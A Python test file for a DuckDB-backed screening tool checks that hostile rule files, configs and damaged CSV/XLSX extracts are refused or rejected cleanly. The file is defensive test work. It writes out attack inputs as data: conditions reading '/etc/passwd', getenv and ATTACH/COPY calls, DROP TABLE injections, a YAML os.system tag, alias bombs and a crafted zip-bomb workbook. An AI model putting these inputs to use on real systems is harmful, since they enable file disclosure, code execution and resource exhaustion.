"""Hostile and damaged input, all real: rule files, manifests and job configs a hostile
person could hand us, extracts as agencies damage them, and agency text that a
spreadsheet would run as a formula.

Every case ends in one of three ways, and the test says which: refused with a
``RuleError``/``ConfigError``/``IngestError`` naming file:line and what to do; a reject
row (and input rows = loaded + rejected); or accepted and inert. Never a hang (cases that
could hang run under a deadline, or in a child process with a timeout), a traceback, or a
process that dies.
"""

from __future__ import annotations

import csv
import io
import re
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path

import duckdb
import openpyxl
import polars as pl
import pytest
from rule_texts import GOOD
from sample_job import SAMPLE, sample_config

from screening.config import load_config
from screening.errors import ConfigError, ScreeningError
from screening.export import export_leads
from screening.ingest.load import ingest
from screening.ingest.manifest import load_manifest
from screening.job import job_rules, run_job
from screening.report import write_report
from screening.rules.compile import compile_subject
from screening.rules.load import load_rule
from screening.rules.testing import run_tests
from screening.store import Store, query_frame

ROOT = Path(__file__).resolve().parents[1]
SCREENING = [sys.executable, "-m", "screening"]
CONDITION_LINE = 9


@contextmanager
def _within(seconds: float) -> Iterator[None]:
    """Fail, rather than hang, when the block runs longer than ``seconds``."""

    def expire(_signal: int, _frame: object) -> None:
        raise TimeoutError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def _rule_file(folder: Path, name: str, replace: dict[int, str]) -> Path:
    lines = GOOD.splitlines()
    for number, text in replace.items():
        lines[number - 1] = text
    path = folder / f"{name}.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _refused(path: Path, line: int, fragment: str) -> str:
    """Load ``path`` (within 5 s): it must be refused at ``line`` with ``fragment``."""
    started = time.perf_counter()
    with _within(5):
        loaded, problems = load_rule(path)
    errors = [p for p in problems if p.severity == "error"]
    assert loaded is None and errors, problems
    assert any(fragment in e.message for e in errors), errors
    assert errors[0].where == f"{path}:{line}", errors
    assert "\n" not in str(errors[0]), errors[0]  # one line for a person
    assert time.perf_counter() - started < 5
    return errors[0].message


# ----- hostile rules ------------------------------------------------------------------

NESTING = "split it"
NOT_ALLOWED = "is not allowed in a rule expression"
HOSTILE_CONDITIONS = {
    # the list
    "parens_200": ("(" * 200 + "award_amount > 0" + ")" * 200, "nested 200 deep"),
    "not_300": ("NOT " * 300 + "wage_claim", "300 NOT/CASE/sign operators"),
    "brackets_200": ("award_amount IN " + "[" * 200 + "1" + "]" * 200, "nested 200 deep"),
    "case_100": ("CASE WHEN true THEN " * 100 + "true" + " END" * 100, "100 NOT/CASE"),
    "minus_300": ('"' + "- " * 300 + 'award_amount > 0"', "300 NOT/CASE/sign"),
    "long": (" OR ".join(["wage_claim"] * 600), "characters long"),
    "tokens": ("+".join(["1"] * 700) + " > 0", "parts (limit"),
    "read_text": ("read_text('/etc/passwd') IS NOT NULL", "'read_text' " + NOT_ALLOWED),
    "read_blob": ("read_blob('/etc/passwd') IS NOT NULL", "'read_blob' " + NOT_ALLOWED),
    "glob": ("glob('/*') IS NOT NULL", "'glob' " + NOT_ALLOWED),
    "current_setting": ("current_setting('threads') = 1", "'current_setting' " + NOT_ALLOWED),
    "getenv": ("getenv('HOME') = ''", "'getenv' " + NOT_ALLOWED),
    "lambda": ('"list_filter([1], lambda x: x > 0) IS NOT NULL"', NOT_ALLOWED),
    "arrow_lambda": ('"list_filter([1], x -> x > 0) IS NOT NULL"', NOT_ALLOWED),
    "fullwidth_or": ("award_amount > 0 ＯＲ wage_claim", "cannot parse"),
    "fullwidth_select": ("ＳＥＬＥＣＴ 1", "cannot parse"),
    "fullwidth_semicolon": ("award_amount > 0； DROP TABLE registry", "cannot parse"),
    "subquery": ("award_amount IN (SELECT 1)", "a subquery is not allowed"),
    "scalar_subquery": ("(SELECT count(*) FROM registry) > 0", NOT_ALLOWED),
    "two_statements": ("award_amount > 0; DROP TABLE registry", "2 statements"),
    "schema_column": ("main.registry.reg_capital > 0", "names a table"),
    "quoted_table": ('\'"registry"."uscc" IS NULL\'', "names a table"),
    "struct": ("\"{'a': 1}.a = 1\"", "not allowed"),
    "unknown_param": ("days_to_deadline <= $nope", "unknown parameter '$nope'"),
    "anonymous_param": ("days_to_deadline <= ?", "unknown parameter"),
    "vocabulary_alone": ('"@zb_close"', "stands alone"),
    # statements of every kind
    "pragma": ("PRAGMA version", NOT_ALLOWED),
    "set": ("SET threads = 1", NOT_ALLOWED),
    "reset": ("RESET threads", NOT_ALLOWED),
    "call": ("CALL pragma_version()", NOT_ALLOWED),
    "export": ("EXPORT DATABASE '/tmp/x'", "cannot parse"),
    "import": ("IMPORT DATABASE '/tmp/x'", "cannot parse"),
    "load": ("LOAD httpfs", NOT_ALLOWED),
    "install": ("INSTALL httpfs", NOT_ALLOWED),
    "attach": ("ATTACH '/tmp/other.duckdb'", NOT_ALLOWED),
    "detach": ("DETACH other", NOT_ALLOWED),
    "copy": ("COPY registry TO '/tmp/x.csv'", NOT_ALLOWED),
    "create": ("CREATE TABLE x AS SELECT 1", NOT_ALLOWED),
    "drop": ("DROP TABLE registry", NOT_ALLOWED),
    "update": ("UPDATE registry SET name = 'x'", NOT_ALLOWED),
    "delete": ("DELETE FROM registry", NOT_ALLOWED),
    "checkpoint": ("CHECKPOINT", "unknown column 'CHECKPOINT'"),
    "use": ("USE other", NOT_ALLOWED),
    "describe": ("DESCRIBE registry", NOT_ALLOWED),
    "summarize": ("SUMMARIZE registry", NOT_ALLOWED),
    "with": ("WITH x AS (SELECT 1) SELECT * FROM x", NOT_ALLOWED),
}


@pytest.mark.parametrize("case", list(HOSTILE_CONDITIONS))
def test_a_hostile_condition_is_refused_at_its_line(tmp_path: Path, case: str) -> None:
    text, fragment = HOSTILE_CONDITIONS[case]
    path = _rule_file(tmp_path, case, {CONDITION_LINE: f"condition: {text}"})
    _refused(path, CONDITION_LINE, fragment)


def _table_functions() -> list[str]:
    with duckdb.connect() as con:
        rows = con.execute(
            "SELECT DISTINCT function_name FROM duckdb_functions() "
            "WHERE function_type = 'table' ORDER BY 1"
        ).fetchall()
    return [name for (name,) in rows]


def test_every_duckdb_table_function_is_refused_wherever_an_expression_goes(
    tmp_path: Path,
) -> None:
    functions = _table_functions()
    assert len(functions) > 50  # read_csv, read_text, glob, query, duckdb_settings …
    places = {  # where an expression may stand, and its line in the rule file
        CONDITION_LINE: "condition: {call} IS NOT NULL",
        10: 'score: {{weight: 1, bands: [{{when: "{call} IS NOT NULL", factor: 2}}]}}',
    }
    accepted = []
    for name in functions:
        for line, template in places.items():
            path = _rule_file(
                tmp_path, f"{name}_{line}", {line: template.format(call=f"{name}('x')")}
            )
            with _within(5):
                loaded, problems = load_rule(path)
            errors = [p for p in problems if p.severity == "error"]
            if loaded is not None or not errors or errors[0].where != f"{path}:{line}":
                accepted.append((name, line, problems))
    assert accepted == []
    # and as a relation of an aggregate's filter
    aggregate = (
        "aggregates:\n  n: {over: enforcements, where: \"read_text('x') IS NOT NULL\"}\n"
        "condition: n > 0"
    )
    path = _rule_file(tmp_path, "aggregate", {CONDITION_LINE: aggregate})
    _refused(path, 10, "'read_text' " + NOT_ALLOWED)


HOSTILE_FILES = {
    # (line to replace, its text) → (line reported, fragment)
    "alias_bomb": (
        {
            15: "x0: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
            + "\n".join(
                f"x{i}: &{chr(97 + i)} [" + ", ".join([f"*{chr(96 + i)}"] * 9) + "]"
                for i in range(1, 9)
            )
        },
        15,
        "anchors and aliases",
    ),
    "self_alias": ({15: "extra: &r [*r]"}, 15, "anchors and aliases"),
    "python_object": (
        {CONDITION_LINE: "condition: !!python/object/apply:os.system ['echo pwned']"},
        CONDITION_LINE,
        "YAML tag",
    ),
    "python_name": ({CONDITION_LINE: "condition: !!python/name:os.system"}, 9, "YAML tag"),
    "newline_in_id": ({1: 'id: "GOOD-RULE\\nDROP TABLE registry"'}, 1, "a rule id is upper"),
    "trailing_newline_in_id": ({1: 'id: "GOOD-RULE\\n"'}, 1, "a rule id is upper"),
    "quote_in_id": ({1: "id: GOOD-RULE\"'; DROP TABLE registry; --"}, 1, "a rule id is upper"),
    "long_id": ({1: "id: " + "A" * 90_000}, 1, "a rule id of 90,000 characters"),
    "id_of_65": ({1: "id: " + "A" * 65}, 1, "(limit 64)"),
    "sql_parameter_name": (
        {8: '  "horizon\'); DROP TABLE x; --": {default: 1, unit: x}'},
        7,
        "is not a name",
    ),
    "newline_parameter_name": ({8: '  "horizon_days\\n": {default: 1, unit: x}'}, 7, "not a name"),
    "infinite_weight": ({10: "score: {weight: .inf}"}, 10, "finite"),
    "deep_yaml": ({15: "extra: " + "[" * 100 + "]" * 100}, 15, "nested deeper than 32"),
    "huge_number": ({15: "extra: " + "9" * 5000}, 15, "a number of 5000 digits"),
    "nul_character": ({15: "extra: a\x00b"}, 15, "unacceptable character #x0000"),
    "unknown_key": ({15: "extra: 1"}, 15, "unknown key 'extra'"),
    "test_parameter_type": (
        {
            13: "  - {name: a, as_of: 2026-09-30, rows: {}, expect: [], "
            'parameters: {horizon_days: "0; DROP TABLE arbitrations"}}'
        },
        13,
        "is a number (default 180)",
    ),
}


@pytest.mark.parametrize("case", list(HOSTILE_FILES))
def test_a_hostile_rule_file_is_refused_at_its_line(tmp_path: Path, case: str) -> None:
    _replace, line, fragment = HOSTILE_FILES[case]
    _refused(_hostile_file(tmp_path, case), line, fragment)


def _hostile_file(folder: Path, case: str) -> Path:
    lines = [*GOOD.splitlines(), "# line 15"]
    for number, text in HOSTILE_FILES[case][0].items():
        lines[number - 1] = text
    path = folder / f"{case}.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_a_file_too_large_or_not_text_is_refused(tmp_path: Path) -> None:
    big = tmp_path / "big.yaml"
    big.write_text(GOOD + "# " + "x" * 1_100_000 + "\n", encoding="utf-8")
    with _within(5):
        _loaded, problems = load_rule(big)
    assert problems[0].where == str(big) and "limit 1,000,000" in problems[0].message
    latin = tmp_path / "latin.yaml"
    latin.write_bytes(GOOD.replace("测试", "x").encode() + "# \xe9\n".encode("latin-1"))
    _loaded, problems = load_rule(latin)
    assert "not UTF-8" in problems[0].message and problems[0].where == str(latin)


def test_rules_check_on_a_folder_of_hostile_files_answers_in_one_line_each(
    tmp_path: Path,
) -> None:
    """The real CLI on every hostile rule at once: within the timeout, each file listed
    with file:line, no traceback, exit status 1."""
    folder = tmp_path / "rules"
    folder.mkdir()
    for case, (text, _fragment) in HOSTILE_CONDITIONS.items():
        _rule_file(folder, case, {CONDITION_LINE: f"condition: {text}"})
    for case in HOSTILE_FILES:
        _hostile_file(folder, case)
    # a rule DuckDB cannot run: text plus text (found by running it on empty views)
    _rule_file(folder, "types", {CONDITION_LINE: "condition: cause + remark > $horizon_days"})
    result = subprocess.run(
        [*SCREENING, "rules", "check", "--rules", str(folder)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 1
    assert "Traceback" not in result.stdout + result.stderr
    assert "Falling back" not in result.stderr  # sqlglot's warnings stay out of the way
    output = " ".join(result.stdout.split())  # rich wraps long lines
    for path in sorted(folder.glob("*.yaml")):
        assert f"{path}:" in output and f"{path.name}" in output, path.name
    assert f"{folder / 'types.yaml'}:{CONDITION_LINE}: error: rule GOOD-RULE cannot run" in output
    total = len(HOSTILE_CONDITIONS) + len(HOSTILE_FILES) + 1
    assert re.search(rf"0 rules loaded; {total} errors, \d+ warnings$", output), output[-300:]


def test_a_comment_that_tries_to_close_itself_stays_a_comment(tmp_path: Path) -> None:
    """``-- */ OR true`` in a condition: were the comment to end early, ``OR true`` would
    make the rule fire on everything, and its negative cases would fail."""
    library = ROOT / "rules" / "award_unenforced.yaml"
    text = library.read_text(encoding="utf-8")
    hostile = text.replace(
        "  AND NOT paid_remark AND NOT iou_only\n",
        "  AND NOT paid_remark AND NOT iou_only -- */ OR true /*\n",
    )
    assert hostile != text
    path = tmp_path / "award_unenforced.yaml"
    path.write_text(hostile, encoding="utf-8")
    loaded, problems = load_rule(path)
    assert loaded is not None and problems == []
    sql = compile_subject("award", [loaded]).sql
    assert "OR TRUE" not in sql.upper().replace("/* * / OR TRUE", "")
    assert all(result.passed for result in run_tests(loaded))


def test_sql_in_parameter_values_and_strings_is_inert(tmp_path: Path) -> None:
    """A string literal, a parameter default and a test case's override holding SQL are
    values: bound, never spliced, so the tables they name are still there."""
    drop = "x'); DROP TABLE arbitrations; --"
    path = _rule_file(
        tmp_path,
        "good_rule",
        {
            8: "  horizon_days: {default: 180, unit: 天 days}\n"
            f'  cause_word: {{default: "{drop}", unit: text}}',
            CONDITION_LINE: 'condition: "days_to_deadline <= $horizon_days AND '
            "(cause = $cause_word OR cause = 'a''); DROP TABLE registry; --')\"",
            14: "  - {name: b, as_of: 2026-09-30, rows: {}, expect: [], "
            f'parameters: {{cause_word: "{drop}"}}}}',
        },
    )
    loaded, problems = load_rule(path)
    assert loaded is not None and problems == [], problems
    query = compile_subject("award", [loaded])
    assert drop not in query.sql and query.parameters["good_rule__cause_word"] == drop
    assert all(result.passed for result in run_tests(loaded))


def test_a_parameter_no_expression_uses_is_a_warning_and_runs(tmp_path: Path) -> None:
    path = _rule_file(tmp_path, "good_rule", {8: "  spare: {default: 1, unit: x}"})
    path.write_text(
        path.read_text(encoding="utf-8").replace(
            "condition: days_to_deadline <= $horizon_days", "condition: days_to_deadline <= 180"
        ),
        encoding="utf-8",
    )
    loaded, problems = load_rule(path)
    assert loaded is not None
    assert [(p.severity, p.where) for p in problems] == [("warning", f"{path}:8")]
    assert all(result.passed for result in run_tests(loaded))  # was a BinderException


def test_a_rule_duckdb_cannot_run_is_a_rule_error_at_its_condition(tmp_path: Path) -> None:
    path = _rule_file(
        tmp_path, "good_rule", {CONDITION_LINE: "condition: cause + remark > $horizon_days"}
    )
    loaded, problems = load_rule(path)
    assert loaded is not None and problems == []  # only DuckDB knows the types
    with pytest.raises(ScreeningError) as error:
        run_tests(loaded)
    assert str(error.value).startswith(f"{path}:{CONDITION_LINE}: rule GOOD-RULE cannot run")


# ----- job configs and manifests: the same bounded loading ----------------------------

HOSTILE_YAML = {
    "alias_bomb": "a: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 9) + "]\n"
        for i in range(8)
    ),
    "self_alias": "seed: 1\nextra: &r [*r]\n",
    "python_object": "seed: !!python/object/apply:os.system ['echo pwned']\n",
    "deep": "seed: 1\nextra: " + "[" * 100 + "]" * 100 + "\n",
    "huge_number": "seed: 1\nextra: " + "9" * 5000 + "\n",
    "nul": "seed: 1\nextra: a\x00b\n",
    "too_big": "seed: 1\n# " + "x" * 1_100_000 + "\n",
}


@pytest.mark.parametrize("case", list(HOSTILE_YAML))
def test_a_hostile_job_config_or_manifest_is_refused_in_one_line(tmp_path: Path, case: str) -> None:
    """Through the real CLI (a child with a timeout, as these could hang or recurse)."""
    text = HOSTILE_YAML[case]
    path = tmp_path / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    for command in (
        ["run", "--config", str(path), "--db", str(tmp_path / "x.duckdb")],
        ["ingest", "--manifest", str(path), "--db", str(tmp_path / "x.duckdb")],
    ):
        result = subprocess.run(
            [*SCREENING, *command], capture_output=True, text=True, timeout=60, check=False
        )
        assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
        message = " ".join(result.stderr.split())
        line = 1 if case in ("alias_bomb", "python_object") else 2
        where = f"{path}:{line}" if case != "too_big" else f"{path}: the file is"
        assert message.startswith(f"error: {where}"), message
        assert not (tmp_path / "x.duckdb").exists()  # refused before anything was opened


def test_overrides_with_sql_or_of_the_wrong_kind_are_refused_at_their_line(
    tmp_path: Path,
) -> None:
    job = tmp_path / "job.yaml"
    cases = {
        'AWARD-UNENFORCED: {horizon_days: "180\'; DROP TABLE registry; --"}': (
            4,
            "parameter horizon_days is a number (default 180), not \"180'; DROP",
        ),
        "AWARD-UNENFORCED: {horizon_days: true}": (4, "is a number (default 180), not True"),
        '"AWARD-UNENFORCED\'; DROP TABLE x; --": {horizon_days: 3}': (
            4,
            'parameters for an unknown rule "AWARD-UNENFORCED\'; DROP TABLE x; --"',
        ),
        'AWARD-UNENFORCED: {"horizon_days\\n": 3}': (4, "has no parameter 'horizon_days\\n'"),
    }
    for line, (number, fragment) in cases.items():
        job.write_text(
            f"manifest: {SAMPLE / 'manifest.yaml'}\nas_of: 2026-09-30\nparameters:\n  {line}\n",
            encoding="utf-8",
        )
        with pytest.raises(ConfigError) as error:
            job_rules(load_config(job))
        assert error.value.where == f"{job}:{number}" and fragment in error.value.message
        assert "\n" not in str(error.value)
    job.write_text('ranking: {rule_weights: {"X\\nY": 2}, anomaly_weight: 1}\n', encoding="utf-8")
    with pytest.raises(ConfigError, match=r"unknown rule 'X\\nY'") as error:
        job_rules(load_config(job))
    assert error.value.where == f"{job}:1"
    job.write_text("ranking: {anomaly_weight: .nan}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=r"job\.yaml:1: 'ranking\.anomaly_weight'"):
        load_config(job)


# ----- damaged extracts ---------------------------------------------------------------

MANIFEST = """sources:
  deposits:
    table: deposits
    files: {files}
    columns:
      总承包单位: {{column: contractor_name, required: true}}
      实存金额(元): actual_amount
      存储日期: deposit_date
"""
HEADER = ["总承包单位", "实存金额(元)", "存储日期"]


def _csv(rows: list[str]) -> str:
    return ",".join(HEADER) + "\n" + "".join(row + "\n" for row in rows)


def _ingest(folder: Path, name: str, content: bytes | str) -> tuple[Path, int, int]:
    """Ingest one file; (database, rows loaded, rows rejected) — checked against the
    ingest record, so that input rows = loaded + rejected."""
    data = content.encode("utf-8") if isinstance(content, str) else content
    (folder / name).write_bytes(data)
    manifest = folder / "manifest.yaml"
    manifest.write_text(MANIFEST.format(files=name), encoding="utf-8")
    db = folder / "t.duckdb"
    with _within(30), Store.open(db) as store:
        result = ingest(load_manifest(manifest), store)
    with duckdb.connect(str(db), read_only=True) as con:
        loaded = con.execute("SELECT count(*) FROM deposits").fetchall()[0][0]
        rejected = con.execute(
            "SELECT count(DISTINCT source_row) FROM rejects WHERE source_file = ?", [name]
        ).fetchall()[0][0]
        recorded = con.execute(
            "SELECT rows_in, loaded, rejected FROM ingested_files WHERE file = ?", [name]
        ).fetchall()
    assert recorded == [(loaded + rejected, loaded, rejected)]
    assert result.files[0].rows_in == loaded + rejected
    return db, loaded, rejected


def _reasons(db: Path) -> list[tuple[int, str, str]]:
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute(
            "SELECT source_row, column_name, reason FROM rejects ORDER BY 1, 2"
        ).fetchall()


def _loaded(db: Path) -> list[tuple[object, ...]]:
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute(
            "SELECT source_row, contractor_name, actual_amount::VARCHAR, deposit_date "
            "FROM deposits ORDER BY 1"
        ).fetchall()


# case → (rows of the file, {row: (column, reason fragment)}, rows expected loaded)
BAD_CELLS: dict[str, tuple[list[str], dict[int, tuple[str, str]], int]] = {
    "nul_in_name": (
        ["甲\x00公司,100,2024-05-01", "乙公司,100,2024-05-01"],
        {2: ("总承包单位", "控制字符")},
        1,
    ),
    "nul_in_amount": (["甲公司,1\x0000,2024-05-01"], {2: ("实存金额(元)", "控制字符")}, 0),
    "escape_in_name": (
        ["甲\x1b[31m公司,100,2024-05-01"],
        {2: ("总承包单位", "control character")},
        0,
    ),
    "one_mb_cell": (
        ["甲" * 1_000_000 + ",100,2024-05-01", "乙公司,1,2024-05-01"],
        {2: ("总承包单位", "too long")},
        1,
    ),
    "one_mb_quoted_cell_stray_quote": (
        ['"' + "甲" * 1_000_000 + '",100,2024-05-01', '乙"公司,1,2024-05-01'],
        {2: ("总承包单位", "too long")},
        1,
    ),
    "too_many_fields": (
        ["甲公司,100,2024-05-01,x,y", "乙公司,1,2024-05-01"],
        {2: ("(row)", "expected 3 fields, found 5")},
        1,
    ),
    "too_few_fields": (["甲公司,100"], {2: ("(row)", "expected 3 fields, found 2")}, 0),
    "impossible_dates": (
        [
            f"甲公司,1,{d}"
            for d in (
                "2023-02-29",
                "2024-13-45",
                "2024-00-10",
                "2024/2/30",
                "2024年2月30日",
                "0000-01-01",
                "9999-12-31",
                "20231",
            )
        ],
        {row: ("存储日期", "date") for row in range(2, 10)},
        0,
    ),
    "1e309": (["甲公司,1e309,2024-05-01"], {2: ("实存金额(元)", "not an amount")}, 0),
    "nan_and_inf": (
        ["甲公司,NaN,2024-05-01", "乙公司,inf,2024-05-01", "丙公司,-inf,2024-05-01"],
        {r: ("实存金额(元)", "not an amount") for r in (2, 3, 4)},
        0,
    ),
    "too_many_digits": (
        ["甲公司,99999999999999999999999,2024-05-01"],
        {2: ("实存金额(元)", "too large")},
        0,
    ),
    "accounting_negative": (
        ['甲公司,"(1,234)",2024-05-01', "乙公司,（1234）,2024-05-01"],
        {r: ("实存金额(元)", "not an amount") for r in (2, 3)},
        0,
    ),
    "negative": (["甲公司,-20,2024-05-01"], {2: ("实存金额(元)", "negative")}, 0),
}


@pytest.mark.parametrize("case", list(BAD_CELLS))
def test_a_bad_cell_is_a_reject_row_and_no_row_is_lost(tmp_path: Path, case: str) -> None:
    rows, expected, loaded_rows = BAD_CELLS[case]
    db, loaded, rejected = _ingest(tmp_path, "d.csv", _csv(rows))
    assert (loaded, rejected) == (loaded_rows, len(rows) - loaded_rows)
    reasons = _reasons(db)
    assert [(row, column) for row, column, _ in reasons] == [
        (row, column) for row, (column, _) in sorted(expected.items())
    ]
    fragments = [fragment for _row, (_column, fragment) in sorted(expected.items())]
    for (_row, _column, reason), fragment in zip(reasons, fragments, strict=True):
        assert fragment in reason, reason
    with duckdb.connect(str(db), read_only=True) as con:
        shown = con.execute("SELECT raw_value FROM rejects").fetchall()
    assert all("\x00" not in str(value) and "\x1b" not in str(value) for (value,) in shown)


def test_full_width_digits_are_read_as_the_digits_they_are(tmp_path: Path) -> None:
    """A clerk's full-width digits are unambiguous: NFKC makes them ASCII (a decision,
    documented here; nothing is guessed, the value is exactly the one typed)."""
    rows = ["甲公司,１２３,２０２４-０５-０１", '乙公司,"１，２３４．５",2024-05-01']
    db, loaded, rejected = _ingest(tmp_path, "d.csv", _csv(rows))
    assert (loaded, rejected) == (2, 0)
    assert _loaded(db) == [
        (2, "甲公司", "123.00", date(2024, 5, 1)),
        (3, "乙公司", "1234.50", date(2024, 5, 1)),
    ]


# ----- files that cannot be read at all: one line naming the file and what to do ------


def _xlsx(
    rows: list[list[str]],
    *,
    extra_shared: bytes = b"",
    unique_count: int | None = None,
    far_cell: str | None = None,
) -> bytes:
    """A minimal real workbook with a shared-string table, built part by part, so that
    each part can be damaged the way a crafted file would be."""
    strings = sorted({cell for row in rows for cell in row})
    index = {text: number for number, text in enumerate(strings)}
    cells = "".join(
        f'<row r="{r}">'
        + "".join(
            f'<c r="{chr(65 + c)}{r}" t="s"><v>{index[text]}</v></c>' for c, text in enumerate(row)
        )
        + "</row>"
        for r, row in enumerate(rows, start=1)
    )
    if far_cell:
        cells += (
            f'<row r="{far_cell[3:]}"><c r="{far_cell}" t="inlineStr"><is><t>x</t></is></c></row>'
        )
    count = len(strings) if unique_count is None else unique_count
    shared = (
        (
            f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}" count="{len(strings)}" '
            f'uniqueCount="{count}">' + "".join(f"<si><t>{text}</t></si>" for text in strings)
        ).encode()
        + extra_shared
        + b"</sst>"
    )
    parts = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{NS}"><sheetData>{cells}</sheetData>'
        "</worksheet>",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        archive.writestr("xl/sharedStrings.xml", shared)
    return buffer.getvalue()


NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
SML = "application/vnd.openxmlformats-officedocument.spreadsheetml"
CONTENT_TYPES = (
    f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PACKAGE}/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{SML}.sheet.main+xml"/>'
    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SML}.worksheet+xml"/>'
    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SML}.sharedStrings+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE}/relationships">'
    f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE}/relationships">'
    f'<Relationship Id="rId1" Type="{REL_NS}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    f'<workbook xmlns="{NS}" xmlns:r="{REL_NS}">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
GOOD_ROWS = [HEADER, ["甲公司", "100", "2024-05-01"], ["乙公司", "200", "2024-05-02"]]


def test_the_minimal_workbook_is_read(tmp_path: Path) -> None:
    """The damaged workbooks below are this one, spoiled one part at a time."""
    db, loaded, rejected = _ingest(tmp_path, "d.xlsx", _xlsx(GOOD_ROWS))
    assert (loaded, rejected) == (2, 0)
    assert [row[:3] for row in _loaded(db)] == [(2, "甲公司", "100.00"), (3, "乙公司", "200.00")]


def _bad_files() -> dict[str, tuple[str, bytes | str, str]]:
    """case → (file name, content, what the one-line error says)."""
    good = _xlsx(GOOD_ROWS)
    return {
        "empty_csv": ("d.csv", b"", "the file is empty"),
        "bom_only_csv": ("d.csv", b"\xef\xbb\xbf", "the file is empty"),
        "header_only_csv": ("d.csv", _csv([]), "only a header row"),
        "header_only_xlsx": ("d.xlsx", _xlsx([HEADER]), "only a header row"),
        "duplicate_headers": (
            "d.csv",
            "总承包单位,实存金额(元),存储日期,实存金额(元)\n甲,1,2024-05-01,2\n",
            "header '实存金额(元)' appears twice",
        ),
        "duplicate_headers_xlsx": (
            "d.xlsx",
            _xlsx([[*HEADER, "总承包单位"], ["甲", "1", "2024-05-01", "乙"]]),
            "appears twice",
        ),
        "gbk_declared_utf8": (
            "d.csv",
            _csv(["甲公司,100,2024-05-01"]).encode("gbk"),
            "not valid utf-8",
        ),
        "utf16": (
            "d.csv",
            _csv(["甲公司,100,2024-05-01"]).encode("utf-16"),
            "neither UTF-8 nor GBK",
        ),
        "empty_xlsx": ("d.xlsx", b"", "the file is empty"),
        "csv_renamed_xlsx": (
            "d.xlsx",
            _csv(["甲公司,100,2024-05-01"]),
            "text (a CSV file?) with an Excel name",
        ),
        "xls_renamed_xlsx": (
            "d.xlsx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
            "Excel 97-2003",
        ),
        "truncated_xlsx": ("d.xlsx", good[: len(good) // 2], "damaged or cut short"),
        "truncated_xlsx_tail": ("d.xlsx", good[:-30], "damaged or cut short"),
        "random_bytes_xlsx": ("d.xlsx", bytes(range(256)) * 4, "not an .xlsx workbook"),
        # Each of these three made the Excel reader abort the whole process before the guard.
        "shared_strings_claims_billions": (
            "d.xlsx",
            _xlsx(GOOD_ROWS, unique_count=4_000_000_000),
            "claims 4,000,000,000 strings",
        ),
        "shared_strings_zip_bomb": (
            "d.xlsx",
            _xlsx(GOOD_ROWS, extra_shared=b"<si><t>x</t></si>" * 1_200_000),
            "a damaged or crafted file",
        ),
        "stray_cell_at_XFD1048576": (
            "d.xlsx",
            _xlsx(GOOD_ROWS, far_cell="XFD1048576"),
            "spans 1,048,576 rows × 16,384 columns",
        ),
    }


BAD_FILE_NAMES = [
    "empty_csv",
    "bom_only_csv",
    "header_only_csv",
    "header_only_xlsx",
    "duplicate_headers",
    "duplicate_headers_xlsx",
    "gbk_declared_utf8",
    "utf16",
    "empty_xlsx",
    "csv_renamed_xlsx",
    "xls_renamed_xlsx",
    "truncated_xlsx",
    "truncated_xlsx_tail",
    "random_bytes_xlsx",
    "shared_strings_claims_billions",
    "shared_strings_zip_bomb",
    "stray_cell_at_XFD1048576",
]


@pytest.mark.parametrize("case", BAD_FILE_NAMES)
def test_an_unreadable_file_is_one_line_naming_it_and_nothing_is_loaded(
    tmp_path: Path, case: str
) -> None:
    """Through the real CLI, in a child with a timeout: the reader could abort or hang."""
    name, content, fragment = _bad_files()[case]
    data = content.encode("utf-8") if isinstance(content, str) else content
    (tmp_path / name).write_bytes(data)
    manifest = tmp_path / "manifest.yaml"
    text = MANIFEST.format(files=name)
    if case == "gbk_declared_utf8":
        text = text.replace("    columns:", "    encoding: utf-8\n    columns:")
    manifest.write_text(text, encoding="utf-8")
    db = tmp_path / "t.duckdb"
    started = time.perf_counter()
    result = subprocess.run(
        [*SCREENING, "ingest", "--manifest", str(manifest), "--db", str(db)],
